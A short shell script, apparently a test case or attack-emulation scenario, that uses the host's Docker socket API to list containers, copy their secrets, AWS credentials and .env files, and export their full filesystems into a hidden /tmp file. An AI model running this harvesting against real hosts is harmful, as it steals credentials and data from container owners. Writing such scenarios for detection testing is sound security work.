#!/bin/sh
. /opt/case/case.sh

api() { curl -sf --unix-socket /var/run/docker.sock "http://d/v1.41$1"; }
api '/containers/json?all=1' >/tmp/list
for c in web db 0123456789ab; do
    for p in /run/secrets /root/.aws /app/.env; do api "/containers/$c/archive?path=$p" >>/tmp/.tars; done
    api "/containers/$c/export" >>/tmp/.tars
done
test -s /tmp/.tars
took_place
